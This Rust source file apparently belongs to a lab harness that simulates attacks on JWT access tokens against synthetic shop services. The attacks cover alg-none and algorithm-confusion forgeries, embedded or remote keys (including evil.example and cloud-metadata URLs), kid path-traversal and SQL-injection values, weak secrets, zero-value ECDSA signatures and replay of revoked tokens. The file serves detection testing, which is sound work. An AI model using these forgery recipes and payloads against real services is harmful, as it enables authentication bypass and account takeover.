//! Section A: what is wrong with the token itself.

use anyhow::Result;
use aws_lc_rs::digest;
use serde_json::{Value, json};

use super::Attack;
use crate::lab::script::{Call, Caller};
use crate::lab::world::{MACHINES, PEOPLE, people_header};
use crate::lab::{S, Service};
use crate::mint::{base64url, set, signing_input};

/// Sends a token that must be refused to a route that refuses strangers; some services accept it.
fn send(a: &mut Attack<'_>, token: &str) {
    let who = a.attacker();
    send_from(a, &who, token);
}

fn send_from(a: &mut Attack<'_>, who: &Caller, token: &str) {
    a.may(&["denied-rate", "token-failure-rate"]);
    let id = a.rng.between(100, 9_000);
    let call = || Call::get(format!("/orders/{id}"));
    a.prepare(who, Service::Orders, call(), 401);
    let status = if a.rng.chance(0.3) { 200 } else { 401 };
    for _ in 0..a.rng.between(1, 3) {
        a.hit(who, Service::Orders, call().token(token), status);
        a.wait_ms(300, 4_000);
    }
}

/// A name that the forger would like to be.
fn target(a: &mut Attack<'_>) -> String {
    let number = a.rng.below(a.world.people.len() as u64) as usize;
    a.world.name(number)
}

fn claims(a: &mut Attack<'_>) -> Value {
    let name = target(a);
    a.claims(&name)
}

/// Claims of the attacker's own account: the signature is good, something else is not.
fn own_claims(a: &mut Attack<'_>) -> Value {
    let name = a.mallory();
    a.claims(&name)
}

fn remove(claims: &mut Value, member: &str) {
    if let Some(members) = claims.as_object_mut() {
        members.remove(member);
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().fold(String::new(), |text, byte| text + &format!("{byte:02x}"))
}

fn now_s(a: &Attack<'_>) -> i64 {
    (a.at / S) as i64
}

pub(super) fn alg_none(a: &mut Attack<'_>) -> Result<()> {
    let claims = claims(a);
    let alg = a.rng.pick(&["none", "None", "NONE", "nOnE", "none ", "RS256"]);
    let input = signing_input(&json!({"alg": alg, "typ": "at+jwt"}).to_string(), &claims.to_string());
    send(a, &format!("{input}."));
    Ok(())
}

pub(super) fn signature_invalid(a: &mut Attack<'_>) -> Result<()> {
    let claims = claims(a);
    let token = match a.rng.below(3) {
        0 => a.world.mint.attacker_rs256(&people_header(), &claims)?,
        // Signed by a key whose name the issuer does not have.
        1 => {
            let kid = format!("key-{}", a.rng.hex(6));
            a.world.mint.attacker_rs256(&json!({"alg": "RS256", "typ": "at+jwt", "kid": kid}), &claims)?
        }
        _ => {
            let good = a.world.sign(&claims)?;
            let (input, signature) = good.rsplit_once('.').unwrap_or_default();
            format!("{input}.{}", signature.chars().rev().collect::<String>().replace(['_', '-'], "A"))
        }
    };
    send(a, &token);
    Ok(())
}

pub(super) fn alg_confusion(a: &mut Attack<'_>) -> Result<()> {
    let claims = claims(a);
    let pem = a.world.mint.public_pem()?;
    let secret = if a.rng.chance(0.5) { pem.as_str() } else { pem.trim_end() };
    let token = a.world.mint.hs256(
        &json!({"alg": "HS256", "typ": "at+jwt", "kid": "rsa-1"}),
        &claims,
        secret.as_bytes(),
    );
    send(a, &token);
    Ok(())
}

pub(super) fn alg_not_allowed(a: &mut Attack<'_>) -> Result<()> {
    let claims = own_claims(a);
    let token = a.world.mint.es256_of(&json!({"alg": "ES256", "typ": "at+jwt", "kid": "ec-1"}), &claims)?;
    send(a, &token);
    Ok(())
}

pub(super) fn embedded_key(a: &mut Attack<'_>) -> Result<()> {
    let claims = claims(a);
    let jwk = a.world.mint.attacker_jwk()?;
    let token =
        a.world.mint.attacker_rs256(&json!({"alg": "RS256", "typ": "at+jwt", "jwk": jwk}), &claims)?;
    send(a, &token);
    Ok(())
}

pub(super) fn key_url(a: &mut Attack<'_>) -> Result<()> {
    let claims = claims(a);
    let url = a.rng.pick(&[
        "https://keys.evil.example/jwks.json",
        "http://169.254.169.254/latest/meta-data",
        "http://10.0.0.9:8000/k",
        "http://localhost/jwks.json",
    ]);
    let member = a.rng.pick(&["jku", "x5u"]);
    let mut header = json!({"alg": "RS256", "typ": "at+jwt", "kid": "k1"});
    set(&mut header, member, json!(url));
    let token = a.world.mint.attacker_rs256(&header, &claims)?;
    send(a, &token);
    Ok(())
}

pub(super) fn kid_injection(a: &mut Attack<'_>) -> Result<()> {
    let claims = claims(a);
    let kid = a.rng.pick(&[
        "../../../../dev/null",
        "/../../etc/hostname",
        "x' UNION SELECT '1",
        "key|id",
        "..\\..\\windows\\win.ini",
        "k1\u{0}",
    ]);
    let secret: &[u8] = if a.rng.chance(0.5) { b"" } else { b"1" };
    let token = a.world.mint.hs256(&json!({"alg": "HS256", "typ": "at+jwt", "kid": kid}), &claims, secret);
    send(a, &token);
    Ok(())
}

pub(super) fn weak_secret(a: &mut Attack<'_>) -> Result<()> {
    let mut claims = claims(a);
    // Asked once for an issuer and key id.
    set(&mut claims, "iss", json!(format!("https://legacy-{}.example/", a.rng.hex(6))));
    let secret = a.rng.pick(&["secret", "password", "changeme", "your-256-bit-secret"]);
    let token = a.world.mint.hs256(&json!({"alg": "HS256", "typ": "JWT"}), &claims, secret.as_bytes());
    send(a, &token);
    Ok(())
}

pub(super) fn psychic_signature(a: &mut Attack<'_>) -> Result<()> {
    let mut claims = claims(a);
    set(&mut claims, "iss", json!(MACHINES));
    let header = json!({"alg": "ES256", "typ": "JWT", "kid": "ec-1"});
    let mut signature = [0_u8; 64];
    if a.rng.chance(0.5) {
        // r is something, s is 0.
        signature[..32].copy_from_slice(&[0x21; 32]);
    }
    let input = signing_input(&header.to_string(), &claims.to_string());
    send(a, &format!("{input}.{}", base64url(&signature)));
    Ok(())
}

pub(super) fn claims_tampered(a: &mut Attack<'_>) -> Result<()> {
    let mut claims = own_claims(a);
    let good = a.world.sign(&claims)?;
    let who = a.attacker();
    a.prepare(&who, Service::Orders, Call::get("/orders?page=1").token(&good), 200);
    a.wait_ms(2_000, 60_000);
    set(&mut claims, "roles", json!(["USER", "ADMIN"]));
    let (head, signature) = (good.split('.').next(), good.rsplit('.').next());
    let token = format!(
        "{}.{}.{}",
        head.unwrap_or_default(),
        base64url(claims.to_string().as_bytes()),
        signature.unwrap_or_default()
    );
    send_from(a, &who, &token);
    Ok(())
}

pub(super) fn unknown_critical(a: &mut Attack<'_>) -> Result<()> {
    let claims = own_claims(a);
    let mut header = people_header();
    if a.rng.chance(0.5) {
        set(&mut header, "crit", json!(["x-shop-scope"]));
        set(&mut header, "x-shop-scope", json!("admin"));
    } else {
        set(&mut header, "crit", json!(["b64"]));
        set(&mut header, "b64", json!(false));
    }
    let token = a.world.mint.rs256(&header, &claims)?;
    send(a, &token);
    Ok(())
}

pub(super) fn malformed_token(a: &mut Attack<'_>) -> Result<()> {
    let name = a.mallory();
    let claims = a.claims(&name);
    let text = claims.to_string();
    let header = people_header();
    let token = match a.rng.below(4) {
        0 => {
            let doubled = text.replacen('{', r#"{"sub":"root","#, 1);
            a.world.mint.rs256_text(&header.to_string(), &doubled)?
        }
        1 => {
            let exp = claims.get("exp").and_then(Value::as_i64).unwrap_or_default();
            let quoted = text.replace(&format!(r#""exp":{exp}"#), &format!(r#""exp":"{exp}""#));
            a.world.mint.rs256_text(&header.to_string(), &quoted)?
        }
        2 => {
            let huge = text.replacen('{', r#"{"exp2":1,"iat":1e999,"#, 1);
            a.world.mint.rs256_text(&header.to_string(), &huge)?
        }
        _ => {
            let input = signing_input(&header.to_string(), &text);
            let (head, body) = input.split_once('.').unwrap_or_default();
            let padding = "=".repeat((4 - body.len() % 4) % 4);
            let padding = if padding.is_empty() { "====" } else { &padding };
            a.world.mint.rs256_input(format!("{head}.{body}{padding}"))?
        }
    };
    send(a, &token);
    Ok(())
}

pub(super) fn costly_token(a: &mut Attack<'_>) -> Result<()> {
    let rounds = a.rng.between(1_300_000, 50_000_000);
    let header = json!({"alg": "PBES2-HS512+A256KW", "enc": "A256GCM", "p2s": "c2FsdHNhbHQ", "p2c": rounds});
    let part = |a: &mut Attack<'_>, n: usize| base64url(a.rng.hex(16).repeat(n).as_bytes());
    let token = format!(
        "{}.{}.{}.{}.{}",
        base64url(header.to_string().as_bytes()),
        part(a, 2),
        part(a, 1),
        part(a, 8),
        part(a, 1)
    );
    send(a, &token);
    Ok(())
}

pub(super) fn type_confusion(a: &mut Attack<'_>) -> Result<()> {
    let mut claims = own_claims(a);
    remove(&mut claims, "scope");
    let typ = if a.rng.chance(0.6) {
        set(&mut claims, "nonce", json!("n-0S6_WzA2Mj"));
        set(&mut claims, "at_hash", json!("77QmUPtjPfzWtF2AnpK9RQ"));
        "JWT"
    } else {
        "refresh+jwt"
    };
    let token = a.world.mint.rs256(&json!({"alg": "RS256", "typ": typ, "kid": "rsa-1"}), &claims)?;
    send(a, &token);
    Ok(())
}

pub(super) fn issuer_unknown(a: &mut Attack<'_>) -> Result<()> {
    let mut claims = own_claims(a);
    set(&mut claims, "iss", json!("https://idp.example.evil.example/"));
    let token = a.world.mint.attacker_rs256(&people_header(), &claims)?;
    send(a, &token);
    Ok(())
}

pub(super) fn audience_mismatch(a: &mut Attack<'_>) -> Result<()> {
    let mut claims = own_claims(a);
    set(&mut claims, "aud", json!(a.rng.pick(&["hr-api", "shop-api-staging", "https://other.example"])));
    let token = a.world.sign(&claims)?;
    send(a, &token);
    Ok(())
}

pub(super) fn expired_token(a: &mut Attack<'_>) -> Result<()> {
    let mut claims = own_claims(a);
    let exp = now_s(a) - a.rng.between(150, 40_000) as i64;
    for (member, value) in [("exp", exp), ("iat", exp - 900), ("nbf", exp - 900)] {
        set(&mut claims, member, json!(value));
    }
    let token = a.world.sign(&claims)?;
    send(a, &token);
    Ok(())
}

pub(super) fn not_yet_valid(a: &mut Attack<'_>) -> Result<()> {
    let mut claims = own_claims(a);
    let nbf = now_s(a) + a.rng.between(300, 40_000) as i64;
    set(&mut claims, "nbf", json!(nbf));
    set(&mut claims, "exp", json!(nbf + 900));
    let token = a.world.sign(&claims)?;
    send(a, &token);
    Ok(())
}

pub(super) fn issued_in_future(a: &mut Attack<'_>) -> Result<()> {
    let mut claims = own_claims(a);
    let iat = now_s(a) + a.rng.between(400, 20_000) as i64;
    set(&mut claims, "iat", json!(iat));
    set(&mut claims, "exp", json!(iat + 900));
    let token = a.world.sign(&claims)?;
    send(a, &token);
    Ok(())
}

pub(super) fn missing_expiry(a: &mut Attack<'_>) -> Result<()> {
    let mut claims = own_claims(a);
    remove(&mut claims, "exp");
    let token = a.world.sign(&claims)?;
    send(a, &token);
    Ok(())
}

pub(super) fn missing_id(a: &mut Attack<'_>) -> Result<()> {
    let mut claims = own_claims(a);
    remove(&mut claims, "jti");
    let token = a.world.sign(&claims)?;
    send(a, &token);
    Ok(())
}

pub(super) fn lifetime_unusual(a: &mut Attack<'_>) -> Result<()> {
    let mut claims = own_claims(a);
    let life = a.rng.between(26 * 3600, 400 * 86_400) as i64;
    set(&mut claims, "exp", json!(now_s(a) - 5 + life));
    let token = a.world.sign(&claims)?;
    send(a, &token);
    Ok(())
}

pub(super) fn token_in_url(a: &mut Attack<'_>) -> Result<()> {
    let token = a.own_token()?;
    let who = a.attacker();
    let call = if a.rng.chance(0.7) {
        Call::get(format!("/orders?page=1&access_token={token}"))
    } else {
        // The page that the issuer sent the browser to asks for data.
        let page = format!("https://shop.test/cb?access_token={token}");
        Call::get("/orders?page=1").header("Referer", page).token(&token)
    };
    a.hit(&who, Service::Orders, call, 200);
    Ok(())
}

pub(super) fn token_in_clear(a: &mut Attack<'_>) -> Result<()> {
    let token = a.own_token()?;
    let mut who = a.attacker();
    who.ingress = None;
    for page in 1..=a.rng.between(1, 4) {
        a.hit(&who, Service::Orders, Call::get(format!("/orders?page={page}")).token(&token), 200);
    }
    Ok(())
}

pub(super) fn proof_missing(a: &mut Attack<'_>) -> Result<()> {
    let mut claims = own_claims(a);
    set(&mut claims, "cnf", json!({"jkt": "0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I"}));
    let token = a.world.sign(&claims)?;
    send(a, &token);
    Ok(())
}

pub(super) fn guessable_token(a: &mut Attack<'_>) -> Result<()> {
    let who = a.attacker();
    let first = a.rng.between(100_000, 900_000);
    let hashed = a.rng.chance(0.5);
    let last = first + a.rng.between(11, 39);
    for number in first..=last {
        let token = if hashed {
            let sum =
                digest::digest(&digest::SHA1_FOR_LEGACY_USE_ONLY, (number % 1000).to_string().as_bytes());
            hex(sum.as_ref())
        } else {
            number.to_string()
        };
        // Whoever has guessed right at last stops.
        let status = if number == last || a.rng.chance(0.2) { 200 } else { 401 };
        a.hit(&who, Service::Orders, Call::get("/orders?page=1").token(&token), status);
        a.wait_ms(200, 9_000);
    }
    a.counts();
    a.may(&["denied-rate", "address-rate", "token-failure-rate"]);
    Ok(())
}

pub(super) fn revoked_token(a: &mut Attack<'_>) -> Result<()> {
    let mut claims = own_claims(a);
    if a.rng.chance(0.5) {
        let id = a.rng.below(super::super::REVOKED_IDS);
        set(&mut claims, "jti", json!(format!("revoked-{id:04}")));
        let token = a.world.sign(&claims)?;
        send(a, &token);
        return Ok(());
    }
    let token = a.world.sign(&claims)?;
    let who = a.attacker();
    a.prepare(&who, Service::Orders, Call::get("/orders?page=1").token(&token), 200);
    a.prepare(&who, Service::Idp, Call::new("POST", "/logout").token(&token), 204);
    a.wait_ms(90_000, 240_000);
    let thief = a.attacker();
    a.hit(&thief, Service::Orders, Call::get("/orders?page=1").token(&token), 200);
    a.may(&["token-many-sources", "device-change"]);
    Ok(())
}

pub(super) fn refresh_reuse(a: &mut Attack<'_>) -> Result<()> {
    let who = a.attacker();
    let refresh = format!("rt_{}{}", a.rng.hex(16), a.rng.hex(16));
    let form = format!("grant_type=refresh_token&client_id=shop-web&refresh_token={refresh}");
    let answer = |token: &str| {
        crate::lab::script::Answer::of(200, 50)
            .with(format!(r#"{{"access_token":"{token}","token_type":"Bearer"}}"#))
    };
    let first = a.own_token()?;
    let done =
        a.script.call(a.at, &who, Service::Idp, Call::form("/oauth/token", form.clone()), &answer(&first));
    a.at = done;
    a.wait_ms(60_000, 500_000);
    let thief = a.attacker();
    let second = a.own_token()?;
    a.hit_with(&thief, Service::Idp, Call::form("/oauth/token", form), &answer(&second));
    Ok(())
}

pub(super) fn forged_token_accepted(a: &mut Attack<'_>) -> Result<()> {
    let mut claims = claims(a);
    let token = match a.rng.below(4) {
        0 => format!("{}.", signing_input(&json!({"alg": "none"}).to_string(), &claims.to_string())),
        1 => a.world.mint.attacker_rs256(&people_header(), &claims)?,
        2 => {
            let pem = a.world.mint.public_pem()?;
            a.world.mint.hs256(&json!({"alg": "HS256", "kid": "rsa-1"}), &claims, pem.as_bytes())
        }
        _ => {
            let exp = now_s(a) - 7200;
            for (member, value) in [("exp", exp), ("iat", exp - 900), ("nbf", exp - 900)] {
                set(&mut claims, member, json!(value));
            }
            set(&mut claims, "sub", json!(a.mallory()));
            set(&mut claims, "iss", json!(PEOPLE));
            a.world.sign(&claims)?
        }
    };
    let who = a.attacker();
    let id = a.rng.between(100, 9_000);
    a.prepare(&who, Service::Orders, Call::get(format!("/orders/{id}")), 401);
    a.hit(&who, Service::Orders, Call::get(format!("/orders/{id}")).token(&token), 200);
    Ok(())
}
